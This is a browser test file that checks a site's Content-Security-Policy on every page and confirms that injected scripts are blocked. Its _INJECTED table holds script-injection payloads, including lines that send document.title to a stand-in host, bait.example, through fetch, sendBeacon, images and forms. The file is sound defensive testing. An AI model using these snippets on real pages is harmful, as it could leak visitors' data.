"""The content security policy: what it says in every page, and that a browser refuses a script that got in."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.host import host

pytestmark = [pytest.mark.browser, pytest.mark.slow]

_POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
# What each directive may name: this very host, data that the site makes itself, and the one inline script's hash.
_ALLOWED = {
    "default-src": r"'none'",
    "script-src": r"'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'",
    "style-src": r"'self'",
    "style-src-attr": r"'unsafe-inline'",
    "img-src": r"'self' data: blob:",
    "font-src": r"'self'",
    "connect-src": r"'self' blob:",
    "worker-src": r"'self' blob:",
    "manifest-src": r"'self'",
    "frame-src": r"'self'",
    "form-action": r"'self'",
    "base-uri": r"'none'",
}
# Each tries to call `canary`, or to send something away, as a script would that got into a page.
_INJECTED = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'canary()'; document.body.append(s)",
    "module": "const s = document.createElement('script'); s.type = 'module'; s.textContent = 'canary()';"
    "document.body.append(s)",
    "event handler": "const i = document.createElement('img'); i.setAttribute('onerror', 'canary()'); i.src = '/none';"
    "document.body.append(i)",
    "other host": "const s = document.createElement('script'); s.src = 'https://bait.example/x.js';"
    "document.body.append(s)",
    "data address": "const s = document.createElement('script'); s.src = 'data:text/javascript,canary()';"
    "document.body.append(s)",
    "blob address": "const s = document.createElement('script');"
    "s.src = URL.createObjectURL(new Blob(['canary()'])); document.body.append(s)",
    "link": "const a = document.createElement('a'); a.href = 'javascript:canary()'; document.body.append(a); a.click()",
    "eval": "try { eval('canary()') } catch {}",
    "function": "try { new Function('canary()')() } catch {}",
    "timer": "try { setTimeout('canary()', 0) } catch {}",
    "request": "fetch('https://bait.example/?' + document.title).catch(() => 0)",
    "beacon": "navigator.sendBeacon('https://bait.example/', document.title)",
    "picture": "new Image().src = 'https://bait.example/?' + document.title",
    "frame": "const f = document.createElement('iframe'); f.src = 'https://bait.example/'; document.body.append(f)",
    "form": "const f = document.createElement('form'); f.action = 'https://bait.example/';"
    "document.body.append(f); f.submit()",
    "style": "const s = document.createElement('style'); s.textContent = '@import \"https://bait.example/x.css\"';"
    "document.body.append(s)",
    "base": "const b = document.createElement('base'); b.href = 'https://bait.example/'; document.head.append(b)",
}
# How many refusals the browser has reported, once there is one.
_REFUSED = """async () => {
  const end = performance.now() + 120000;
  while (!refused.length && performance.now() < end) await new Promise((done) => setTimeout(done, 20));
  return refused.length;
}"""


def policies(site: Path) -> Iterator[tuple[Path, str]]:
    for path in sorted(site.rglob("*.html")):
        found = _POLICY.findall(path.read_text("utf-8"))
        assert len(found) == 1, path
        yield path, unescape(found[0])


def test_every_page_has_it_and_it_allows_only_this_host(small_site: Path) -> None:
    checked = 0
    for path, policy in policies(small_site):
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
        for name, sources in directives.items():
            assert re.fullmatch(_ALLOWED[name], sources), f"{path}: {name} {sources}"
        assert {"default-src", "script-src", "form-action", "base-uri"} <= set(directives)
        assert "'unsafe-eval'" not in policy
        checked += 1
    assert checked > 20


def test_it_stands_before_whatever_could_run(small_site: Path) -> None:
    for path in sorted(small_site.rglob("*.html")):
        text = path.read_text("utf-8")
        assert text.index("Content-Security-Policy") < text.index("<script"), path
        assert text.index("Content-Security-Policy") < text.index("<link"), path


@pytest.fixture(scope="module")
def address(small_site: Path) -> Iterator[str]:
    with host(small_site) as found:
        yield found


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    context = browser.new_context()
    opened = context.new_page()
    opened.add_init_script("""
        window.ran = 0; window.canary = () => window.ran++; window.refused = [];
        document.addEventListener('securitypolicyviolation', one => refused.push(one.effectiveDirective));
    """)
    opened.goto(address + "en/datasets/counts/")
    yield opened
    context.close()


@pytest.mark.sample(3)
@pytest.mark.parametrize("way", _INJECTED)
def test_a_script_that_got_in_does_nothing(page: Page, address: str, way: str) -> None:
    """It runs from a timer: what the browser's own protocol evaluates at once may use `eval` under any policy."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate(f"() => {{ setTimeout(() => {{ {_INJECTED[way]} }}, 0) }}")
    assert page.evaluate(_REFUSED) > 0, "the browser reported it"
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") == 0
    assert not [url for url in asked if "bait.example" in url and _was_sent(page, url)]
    assert page.url.startswith(address)


def _was_sent(page: Page, url: str) -> bool:
    """A request that the policy blocks is reported as well, and has no answer: none of these hosts could give one."""
    return page.evaluate("url => performance.getEntriesByName(url).some(one => one.responseStatus > 0)", url)
